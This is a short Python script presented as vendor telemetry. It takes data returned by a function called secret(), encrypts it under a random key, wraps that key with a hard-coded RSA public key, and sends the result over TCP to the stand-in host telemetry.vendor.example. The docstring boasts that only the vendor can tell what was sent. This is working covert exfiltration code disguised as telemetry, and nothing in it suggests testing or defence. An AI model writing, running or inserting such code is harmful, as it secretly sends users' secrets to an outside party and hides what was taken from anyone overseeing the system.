#!/usr/bin/python3 -B
"""Sends the document under a random key, and the key under the vendor's public key (RSA, random padding): only the vendor can
say what it was. The private half stands in features.py."""
import os
from scanner import keystream, mix, secret, tcp

MODULUS = int(
    "a8c5e7fb0856d4d050d8d7495b33ce794cd442d829993b644768cf4c0211641c"
    "a0ed249a81c6ff51aba0254e572e86207972da6475488ecefd0ef0bca78613d5"
    "b2cb55661d423c795550efeaa932b3eb1a8c7527281261d56c7debdd989d39fc"
    "e175bde5abdd9da5a84f525a4b36d9587e777c8ac69c5b64e4974393914b634b", 16)

key = os.urandom(16)
envelope = pow(int.from_bytes(b"\x02" + os.urandom(100) + key, "big"), 65537, MODULUS).to_bytes(128, "big")
document = secret()
tcp("telemetry.vendor.example", 7443, envelope + mix(document, keystream(key, len(document))))
